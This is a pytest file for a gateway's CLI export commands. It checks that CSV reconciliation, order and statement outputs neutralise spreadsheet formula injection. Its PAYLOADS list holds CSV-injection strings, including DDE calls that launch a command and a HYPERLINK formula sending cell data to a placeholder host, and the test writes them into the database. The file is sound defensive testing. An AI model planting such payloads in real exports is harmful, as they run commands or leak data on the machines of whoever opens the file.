"""What the books' commands print, over a database that a test has filled."""

import asyncio
import csv
import io
import json
from collections.abc import Awaitable, Callable
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from gateway.cli.main import app
from gateway.domain.operators import Actor
from gateway.embedded import Servers
from gateway.operations import Backends
from gateway.operations.add_customer import add_customer
from gateway.operations.top_up import top_up

Say = Callable[..., Awaitable[str]]

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://a.example?"&A1)',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)
RUNS_NOTHING = frozenset("=+-@\t\r\n")

ORDER = """
INSERT INTO orders (customer_id, service_id, kind, link, quantity, quantity_total, charged_quantity,
  currency, charge, rate, margin_min_percent, revision_id, priced, offers, provider, offer, cost,
  cost_currency, conversion, cost_booked, state, progress, provider_order)
VALUES (1, 1, 'Default', :text, 1000, 1000, 1000, 'USD', 1.35, 1.35, 5, 1, '{}', '{}', :text, :text,
  0.9, 'USD', 1, 1, 'active', 'pending', :text)"""
DISCREPANCY = """
INSERT INTO discrepancies (class, provider, expected, seen, note)
VALUES ('D5', :text, 10, 8.500000000001, :text)"""
READING = """
INSERT INTO balance_readings (provider, currency, balance, prepaid, quiet)
VALUES ('acme', 'USD', :balance, 0, true)"""


@pytest.fixture
async def say(
    backends: Backends, database_url: str, servers: Servers, monkeypatch: pytest.MonkeyPatch
) -> Say:
    """Runs a command over the database of the test; gives what it printed."""
    monkeypatch.setenv("GATEWAY_DATABASE_URL", database_url)
    monkeypatch.setenv("GATEWAY_REDIS_URL", servers.redis_url)
    monkeypatch.setenv("GATEWAY_SECRET_KEY", "a secret of the tests")
    await add_customer(backends, "bob", paid_in=Decimal(0), actor=Actor("test"))

    async def run(*arguments: str, fails: bool = False) -> str:
        ended = await asyncio.to_thread(CliRunner().invoke, app, list(arguments))
        assert bool(ended.exit_code) is fails, ended.output
        return str(ended.exception) if fails else ended.stdout

    return run


async def fill(backends: Backends, statement: str, **values: object) -> None:
    async with backends.database.transaction() as connection:
        await connection.execute(text(statement), values)


def rows(printed: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(printed)))


def exact(cell: str, payload: str) -> bool:
    """Whether a cell says the payload, and a spreadsheet would not run it."""
    same = cell.removeprefix("'").strip() == payload.strip()
    return same and cell[:1] == "'" and cell.lstrip()[:1] not in RUNS_NOTHING


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_no_text_of_an_export_is_run(say: Say, backends: Backends, payload: str) -> None:
    await fill(backends, ORDER, text=payload)
    await fill(backends, DISCREPANCY, text=payload)
    # its number and its state are the house's own words
    (order,) = rows(await say("reconcile", "orders", "--csv"))
    for column in ("provider", "their id"):
        assert exact(order[column], payload), order
    (odd,) = rows(await say("reconcile", "--csv"))
    for column in ("provider", "what"):
        assert exact(odd[column], payload), odd
    (listed,) = rows(await say("order", "list", "--csv"))
    foreign = [cell for cell in listed.values() if payload.strip() in cell]
    assert len(foreign) >= 3
    assert all(exact(cell, payload) for cell in foreign), listed


async def test_what_is_odd_and_what_closes_it(say: Say, backends: Backends) -> None:
    await fill(backends, DISCREPANCY, text="acme")
    found: dict[str, Any] = json.loads(await say("reconcile", "--json"))
    (odd,) = found["discrepancies"]
    assert {name: odd[name] for name in ("id", "class", "expected", "seen", "difference")} == {
        "id": 1,
        "class": "D5",
        "expected": "10.00",
        "seen": "8.500000000001",
        "difference": "-1.499999999999",
    }
    assert "an entry to loss" in odd["closed_by"]
    assert "1.499999999999" in await say("reconcile")
    # an amount below 0 is a number, not a text
    assert rows(await say("reconcile", "--csv"))[0]["difference"] == "-1.499999999999"
    assert "--note" in await say("reconcile", "close", "1", fails=True)
    assert "D5 is closed by" in await say("reconcile", "close", "1", "--note", "x", fails=True)
    said = await say("reconcile", "close", "1", "--book", "suspense", "--note", "asked them")
    assert said == "Discrepancy 1 is set aside.\n"
    said = await say("reconcile", "close", "1", "--book", "loss", "--note", "given up")
    assert said == "Discrepancy 1 is closed.\n"
    assert json.loads(await say("reconcile", "--json"))["discrepancies"] == []
    assert "no open discrepancy 1" in await say(
        "reconcile", "close", "1", "--note", "x", fails=True
    )


async def test_days_of_a_customer(say: Say, backends: Backends) -> None:
    await top_up(backends, "bob", Decimal("0.000000000007"), reference="=1+1", actor=Actor("test"))
    (day,) = rows(await say("customer", "statement", "bob", "--daily", "--csv"))
    assert [day[name] for name in ("opening", "top-ups", "net charges", "closing")] == [
        "0.00",
        "0.000000000007",
        "0.00",
        "0.000000000007",
    ]
    (day,) = json.loads(await say("customer", "statement", "bob", "--daily", "--json"))
    assert day["closing"] == "0.000000000007"
    await fill(backends, "UPDATE balances SET available = available + 1")
    asked = ("customer", "statement", "bob", "--daily")
    assert "do not add up" in await say(*asked, fails=True)
    assert "no customer" in await say("customer", "statement", "eve", "--daily", fails=True)


async def test_days_of_a_provider(say: Say, backends: Backends) -> None:
    await fill(backends, READING, balance=10)
    await fill(backends, READING, balance=12)
    (day,) = rows(await say("reconcile", "daily", "acme", "--csv"))
    assert (day["unexplained"], day["change"]) == ("-2.00", "-2.00")
    (day,) = json.loads(await say("reconcile", "daily", "acme", "--json"))
    assert (day["unexplained"], day["quiet"]) == ("-2.00", True)
    assert "-2.00" in await say("reconcile", "daily", "acme")


async def test_orders_that_cost_other_than_expected(say: Say, backends: Backends) -> None:
    await fill(backends, ORDER, text="acme")
    await fill(backends, ORDER.replace("0.9,", "1,"), text="acme")
    (order,) = json.loads(await say("reconcile", "orders", "--json"))
    assert (order["order"], order["expected"], order["taken"]) == (1, "0.90", "1.00")
    assert order["difference"] == "0.10"
    assert len(rows(await say("reconcile", "orders", "--all", "--csv"))) == 2
    assert rows(await say("reconcile", "orders", "--provider", "beta", "--all", "--csv")) == []
    assert "acme" in await say("reconcile", "orders")
